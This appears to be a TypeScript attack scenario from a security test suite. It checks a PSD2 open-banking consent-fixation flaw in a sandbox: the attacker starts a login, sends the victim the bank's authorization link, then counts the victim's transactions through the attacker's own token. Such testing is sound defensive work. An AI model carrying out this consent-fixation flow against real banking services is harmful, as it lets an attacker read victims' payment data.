/**
 * The attacker begins a login of his own, chooses the bank himself and sends his victim only the bank's address. The
 * victim agrees there, as anybody would who trusts the bank. Whose payments does the attacker read then?
 */
import { setTimeout as wait } from "node:timers/promises";
import type { Partner } from "../outside/partner.ts";
import type { Attack } from "./attack.ts";
import { agreeAtBank, initiate, listConsents, newUser, sandboxPartner, titleOf, toBankChoice } from "./psd2.ts";

const fetchedWithinMs = 20_000;

export const attack: Attack = {
  name: "psd2-consent-fixation",
  async succeeds(world) {
    const partner = await sandboxPartner(world);
    const token = await newUser(partner, "malin");
    const own = world.browser(world.attacker);
    const choosing = await toBankChoice(own, await initiate(partner, token));
    const authorize = await own.whereto(choosing, "/bank", { bank: "sandbox" });
    if (authorize === null) throw new Error("no bank's address to send to anybody");

    const end = await agreeAtBank(world.browser(world.victim), authorize);

    const consents = await listConsents(world, partner);
    if (!consents.some(({ bankUserId }) => bankUserId === "malin"))
      return { succeeded: false, seen: `no consent; the victim's page: ${end.status} "${titleOf(end)}"` };
    return { succeeded: true, seen: `a consent of the victim's, and ${await countPayments(partner, token)} payments` };
  },
};

/** As many as were fetched by the end of the time, or when the first are there. */
async function countPayments(partner: Partner, token: string): Promise<number> {
  for (const until = performance.now() + fetchedWithinMs; performance.now() < until; await wait(500)) {
    const rows = JSON.parse((await partner.call("GET", "/transactions", { token })).text) as unknown;
    if (Array.isArray(rows) && rows.length > 0) return rows.length;
  }
  return 0;
}
